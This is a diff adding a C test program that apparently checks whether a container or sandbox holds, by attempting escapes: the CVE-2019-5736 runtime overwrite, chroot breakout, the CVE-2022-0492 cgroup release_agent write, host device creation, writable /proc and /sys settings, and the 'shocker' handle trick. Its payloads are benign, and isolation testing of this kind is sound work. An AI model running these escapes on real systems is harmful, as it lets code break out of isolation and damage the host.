@@ -1,0 +1,214 @@
+// What a hostile program inside tries. usage: attack WHAT [ARGUMENT]...; exit status 0: it got out.
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <grp.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <time.h>
+#include <unistd.h>
+
+// Looks at every process again and again for a program of this size, which is the runtime's, and overwrites it (CVE-2019-5736).
+static int overwrite_runtime(long size, int seconds)
+{
+    time_t end = time(0) + seconds;
+    while (time(0) < end) {
+        DIR *proc = opendir("/proc");
+        if (!proc)
+            return 1;
+        for (struct dirent *entry; (entry = readdir(proc));) {
+            char path[300];
+            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
+            int fd = open(path, O_RDONLY);
+            struct stat stat;
+            if (fd < 0)
+                continue;
+            if (fstat(fd, &stat) || stat.st_size != size) {
+                close(fd);
+                continue;
+            }
+            printf("found the runtime: %s\n", path);
+            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+            while (time(0) < end + 2) {
+                int out = open(path, O_WRONLY | O_TRUNC);
+                if (out >= 0) {
+                    if (write(out, "#!/bin/sh\n", 10) == 10)
+                        printf("overwrote it\n");
+                    return 0;
+                }
+                if (errno != ETXTBSY)
+                    return 0; // it is in reach, which is bad enough
+            }
+            return 0;
+        }
+        closedir(proc);
+    }
+    return 1;
+}
+
+// A file of the host by all descriptors and by the directories above the working directory.
+static int find_file(const char *host_path)
+{
+    char up[4096] = "", path[8192];
+    for (int i = 0; i < 40; i++) {
+        snprintf(path, sizeof path, "%s%s", *up ? up : ".", host_path);
+        if (!access(path, F_OK)) {
+            printf("%s\n", path);
+            return 0;
+        }
+        strcat(up, *up ? "/.." : "..");
+    }
+    for (int fd = 3; fd < 1024; fd++) {
+        *up = 0;
+        for (int i = 0; i < 20; i++) {
+            snprintf(path, sizeof path, "%s%s", *up ? up : ".", host_path);
+            if (!faccessat(fd, path, F_OK, 0)) {
+                printf("fd %d %s\n", fd, path);
+                return 0;
+            }
+            strcat(up, *up ? "/.." : "..");
+        }
+    }
+    return 1;
+}
+
+// Descriptors beyond 0 to 2.
+static int leaked_descriptors(void)
+{
+    int found = 1;
+    for (int fd = 3; fd < 4096; fd++)
+        if (fcntl(fd, F_GETFD) >= 0) {
+            char path[64], target[256] = "";
+            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+            if (readlink(path, target, sizeof target - 1) < 0)
+                strcpy(target, "?");
+            printf("descriptor %d: %s\n", fd, target);
+            found = 0;
+        }
+    return found;
+}
+
+// The classic way out of a chroot: a second chroot with the working directory outside.
+static int break_chroot(const char *host_path)
+{
+    mkdir("/jail", 0700);
+    int here = open("/", O_RDONLY | O_DIRECTORY);
+    if (chroot("/jail"))
+        return 1;
+    fchdir(here);
+    for (int i = 0; i < 64; i++)
+        chdir("..");
+    chroot(".");
+    return access(host_path, F_OK) ? 1 : 0;
+}
+
+// A new user namespace gives all capabilities in it; cgroup v1 then offers release_agent (CVE-2022-0492).
+static int release_agent(void)
+{
+    static const char *const controllers[] = { "memory", "rdma", "freezer", "pids", "cpu", "devices", "name=x" };
+    for (int with = 0; with < 2; with++) {
+        if (with && unshare(0x10000000 | 0x02000000 | 0x00020000))
+            return 1;
+        mkdir("/tmp/cg", 0700);
+        for (unsigned i = 0; i < sizeof controllers / sizeof *controllers; i++)
+            if (!mount("cgroup", "/tmp/cg", "cgroup", 0, controllers[i])) {
+                int fd = open("/tmp/cg/release_agent", O_WRONLY);
+                if (fd >= 0 && write(fd, "/bin/true", 9) == 9)
+                    return 0;
+                umount("/tmp/cg");
+            }
+    }
+    static const char *const places[] = { "memory", "rdma", "freezer", "pids", "cpu", "cpu,cpuacct", "devices", "systemd", "blkio", "cpuset", "net_cls", "perf_event" };
+    for (unsigned i = 0; i < sizeof places / sizeof *places; i++) {
+        char path[128];
+        snprintf(path, sizeof path, "/sys/fs/cgroup/%s/release_agent", places[i]);
+        int fd = open(path, O_WRONLY);
+        if (fd >= 0 && write(fd, "/bin/true", 9) == 9)
+            return 0;
+    }
+    return 1;
+}
+
+// Files of /proc and /sys that change the host.
+static int host_settings(void)
+{
+    static const char *const files[] = {
+        "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/panic_on_oom", "/proc/sys/kernel/panic", "/sys/kernel/uevent_helper",
+        "/sys/kernel/mm/transparent_hugepage/enabled", "/proc/kcore", "/proc/irq/0/smp_affinity", "/sys/firmware/x", "/proc/timer_list", "/proc/sys/kernel/hotplug",
+    };
+    int found = 1;
+    for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
+        char byte;
+        int fd = open(files[i], O_WRONLY);
+        if (fd >= 0 && !(fd >= 0 && strcmp(files[i], "/proc/kcore") == 0)) {
+            // A masked file is /dev/null: writing does no harm.
+            struct stat stat, null;
+            if (!fstat(fd, &stat) && S_ISCHR(stat.st_mode) && !lstat("/dev/null", &null) && stat.st_rdev == null.st_rdev)
+                continue;
+            printf("writable: %s\n", files[i]);
+            found = 0;
+        }
+        fd = open("/proc/kcore", O_RDONLY);
+        if (fd >= 0 && read(fd, &byte, 1) == 1) {
+            printf("readable: /proc/kcore\n");
+            found = 0;
+        }
+    }
+    return found;
+}
+
+// Devices of the host: the kernel's memory and disks.
+static int host_devices(void)
+{
+    static const int numbers[][3] = { { S_IFCHR, 1, 1 }, { S_IFCHR, 1, 2 }, { S_IFCHR, 1, 4 }, { S_IFBLK, 254, 0 }, { S_IFBLK, 8, 0 }, { S_IFBLK, 259, 0 }, { S_IFBLK, 7, 0 } };
+    int found = 1;
+    for (unsigned i = 0; i < sizeof numbers / sizeof *numbers; i++) {
+        char byte;
+        unlink("/tmp/device");
+        if (mknod("/tmp/device", numbers[i][0] | 0600, (unsigned)(numbers[i][1] << 8 | numbers[i][2])))
+            continue;
+        int fd = open("/tmp/device", O_RDWR);
+        if (fd < 0)
+            fd = open("/tmp/device", O_RDONLY);
+        if (fd >= 0 && read(fd, &byte, 1) >= 0) {
+            printf("device %d:%d opens\n", numbers[i][1], numbers[i][2]);
+            found = 0;
+        }
+    }
+    return found;
+}
+
+// open_by_handle_at(2) with guessed inode numbers ("shocker").
+static int shocker(void)
+{
+    struct { unsigned bytes; int type; unsigned ino; unsigned generation; } handle = { 8, 1, 2, 0 };
+    int mount = open("/etc/passwd", O_RDONLY);
+    return syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY) >= 0 ? 0 : 1;
+}
+
+int main(int argc, char **argv)
+{
+    const char *what = argc > 1 ? argv[1] : "", *argument = argc > 2 ? argv[2] : "";
+    setvbuf(stdout, 0, _IOLBF, 0);
+    if (!strcmp(what, "overwrite_runtime"))
+        return overwrite_runtime(atol(argument), argc > 3 ? atoi(argv[3]) : 5);
+    if (!strcmp(what, "find_file"))
+        return find_file(argument);
+    if (!strcmp(what, "leaked_descriptors"))
+        return leaked_descriptors();
+    if (!strcmp(what, "break_chroot"))
+        return break_chroot(argument);
+    if (!strcmp(what, "release_agent"))
+        return release_agent();
+    if (!strcmp(what, "host_settings"))
+        return host_settings();
+    if (!strcmp(what, "host_devices"))
+        return host_devices();
+    if (!strcmp(what, "shocker"))
+        return shocker();
+    return 2;
+}
